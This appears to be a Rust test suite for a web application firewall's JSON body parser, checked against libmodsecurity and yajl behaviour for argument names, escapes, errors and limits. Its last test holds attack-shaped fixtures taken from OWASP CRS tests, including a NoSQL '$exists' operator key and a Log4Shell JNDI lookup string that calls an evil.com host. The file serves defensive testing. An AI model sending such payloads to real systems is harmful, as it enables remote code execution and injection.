use super::*;

fn run(input: &[u8], limits: Limits) -> (Vec<(String, String)>, Result<(), String>) {
    let mut c = Collect::default();
    let r = parse_json(input, &limits, &mut c).map_err(|e| BodyError::from(e).to_string());
    (c.args, r)
}

/// Each case was checked against libmodsecurity 3.0.9 + yajl 2.1.0.
#[test]
fn table() {
    type Case = (&'static [u8], &'static [(&'static str, &'static str)], Option<&'static str>);
    let cases: &[Case] = &[
        (b"", &[], None),
        (br#"{"a":"b"}"#, &[("json.a", "b")], None),
        (br#"{"a":{"b":{"c":1}}}"#, &[("json.a.b.c", "1")], None),
        (br#"{"a":[1,"x",true,false,null]}"#, &[
            ("json.a.array_0", "1"), ("json.a.array_1", "x"), ("json.a.array_2", "true"),
            ("json.a.array_3", "false"), ("json.a.array_4", ""),
        ], None),
        (br#"[[1,2],[3]]"#, &[("json.array_0.array_0", "1"), ("json.array_0.array_1", "2"), ("json.array_1.array_0", "3")], None),
        (br#"{"a":[{"b":1},{"c":2}]}"#, &[("json.a.array_0.b", "1"), ("json.a.array_1.c", "2")], None),
        (br#"{"":{"":[{"":1}]}}"#, &[("json.empty-key.empty-key.array_0.empty-key", "1")], None),
        (br#"{"a":{},"b":[],"c":[[]],"d":1}"#, &[("json.d", "1")], None),
        (b"{}", &[], None),
        (b"[]", &[], None),
        // Top-level scalars are named "json".
        (b" 123 ", &[("json", "123")], None),
        (br#""s""#, &[("json", "s")], None),
        (b"null", &[("json", "")], None),
        // Numbers exactly as written.
        (br#"[1.50e3,-0,-0.5E-3,1e+2]"#, &[("json.array_0", "1.50e3"), ("json.array_1", "-0"), ("json.array_2", "-0.5E-3"), ("json.array_3", "1e+2")], None),
        // Escapes; \u as UTF-8; surrogates as yajl combines them.
        (br#"{"k\n":"v\t\"\\\/\b\f\r"}"#, &[("json.k\n", "v\t\"\\/\u{8}\u{c}\r")], None),
        (br#"["\u00e9\ud83d\ude00\u0041"]"#, &[("json.array_0", "é😀A")], None),
        (br#""\ud800xyz""#, &[("json", "?xyz")], None),
        (br#""\udc00""#, &[("json", "\\xed\\xb0\\x80")], None),
        (br#""a\u0000b""#, &[("json", "a\0b")], None),
        // Raw UTF-8 passes, yajl's check is lax (overlong accepted).
        (b"[\"\xc3\xa9\xc0\x80\"]", &[("json.array_0", "é\\xc0\\x80")], None),
        // Errors: v3's messages, yajl's text with its line feed.
        (b"test", &[], Some("JSON parsing error: lexical error: invalid string in json text.\n")),
        (b"  ", &[], Some("JSON parsing error: parse error: premature EOF\n")),
        (b"[1,2", &[("json.array_0", "1"), ("json.array_1", "2")], Some("JSON parsing error: parse error: premature EOF\n")),
        (br#"{"a":1} x"#, &[("json.a", "1")], Some("JSON parsing error: parse error: trailing garbage\n")),
        (br#"{"a":1} "unterminated"#, &[("json.a", "1")], None),
        (b"[1,]", &[("json.array_0", "1")], Some("JSON parsing error: parse error: unallowed token at this point in JSON text\n")),
        (br#"{"a" 1}"#, &[], Some("JSON parsing error: parse error: object key and value must be separated by a colon (':')\n")),
        (b"{1:2}", &[], Some("JSON parsing error: parse error: invalid object key (must be a string)\n")),
        (br#"{"a":1 "b":2}"#, &[("json.a", "1")], Some("JSON parsing error: parse error: after key and value, inside map, I expect ',' or '}'\n")),
        (b"[1 2]", &[("json.array_0", "1")], Some("JSON parsing error: parse error: after array element, I expect ',' or ']'\n")),
        (b"[\"\xff\"]", &[], Some("JSON parsing error: lexical error: invalid bytes in UTF8 string.\n")),
        (b"[\"a\x01\"]", &[], Some("JSON parsing error: lexical error: invalid character inside string.\n")),
        (br#"["\x"]"#, &[], Some("JSON parsing error: lexical error: inside a string, '\\' occurs before a character which it may not.\n")),
        (br#"["\u12g4"]"#, &[], Some("JSON parsing error: lexical error: invalid (non-hex) character occurs after '\\u' inside string.\n")),
        (b"[-]", &[], Some("JSON parsing error: lexical error: malformed number, a digit is required after the minus sign.\n")),
        (b"[1.]", &[], Some("JSON parsing error: lexical error: malformed number, a digit is required after the decimal point.\n")),
        (b"[1e]", &[], Some("JSON parsing error: lexical error: malformed number, a digit is required after the exponent.\n")),
        (b"[1]//c", &[("json.array_0", "1")], Some("JSON parsing error: parse error: trailing garbage\n")),
        (b"/*c*/1", &[], Some("JSON parsing error: lexical error: probable comment found in input text, comments are not enabled.\n")),
        (b"[01]", &[("json.array_0", "0")], Some("JSON parsing error: parse error: after array element, I expect ',' or ']'\n")),
        (b"\x0b\x0c[1]", &[("json.array_0", "1")], None),
    ];
    for (input, args, err) in cases {
        let (got, r) = run(input, Limits::default());
        let want: Vec<_> = pairs(args).into_iter().map(|(n, v)| (n, v.replace("\\x00", "\0"))).collect();
        assert_eq!(got, want, "input {:?}", show(input));
        assert_eq!(r.err().as_deref(), *err, "input {:?}", show(input));
    }
}

#[test]
fn depth_limit() {
    let limits = Limits { json_depth: 2, ..Limits::default() };
    let (got, r) = run(br#"{"a":{"b":1},"c":[[2]]}"#, limits);
    assert_eq!(got, pairs(&[("json.a.b", "1")]));
    assert_eq!(
        r.err().as_deref(),
        Some("JSON parsing error: parse error: client cancelled parse via callback return value\n. Parsing depth limit exceeded")
    );
    let (_, r) = run(b"[[1]]", limits);
    assert!(r.is_ok());
}

#[test]
fn deep_nesting_does_not_recurse() {
    let mut body = vec![b'['; 200_000];
    body.extend(std::iter::repeat_n(b']', 200_000));
    let limits = Limits { json_depth: usize::MAX, ..Limits::default() };
    let (got, r) = run(&body, limits);
    assert!(got.is_empty());
    assert!(r.is_ok());
    let (_, r) = run(&body, Limits::default());
    assert!(r.unwrap_err().ends_with("Parsing depth limit exceeded"));
}

#[test]
fn argument_limit_cancels() {
    let limits = Limits { max_args: 2, ..Limits::default() };
    let (got, r) = run(br#"{"a":1,"b":2,"c":3}"#, limits);
    assert_eq!(got, pairs(&[("json.a", "1"), ("json.b", "2")]));
    assert_eq!(r.err().as_deref(), Some("JSON parsing error: parse error: client cancelled parse via callback return value\n"));
}

#[test]
fn crs_payloads() {
    // Shapes from CRS tests 942290 (operators as keys), 944150 (escapes),
    // 941120 (nested objects), 933100 (arrays).
    let (got, r) = run(br#"{"user": {"$exists": true}}"#, Limits::default());
    assert_eq!(got, pairs(&[("json.user.$exists", "true")]));
    assert!(r.is_ok());
    let (got, _) = run(br#"{"foo": "$\u007Bjndi:ldap://evil.com/webshell}"}"#, Limits::default());
    assert_eq!(got, pairs(&[("json.foo", "${jndi:ldap://evil.com/webshell}")]));
    let (got, _) = run(br#"{"paymentData":{"header":{"key":"MFk=k"}},"n":5000}"#, Limits::default());
    assert_eq!(got, pairs(&[("json.paymentData.header.key", "MFk=k"), ("json.n", "5000")]));
    let (got, _) = run(br#"{"array":["php","test"]}"#, Limits::default());
    assert_eq!(got, pairs(&[("json.array.array_0", "php"), ("json.array.array_1", "test")]));
}
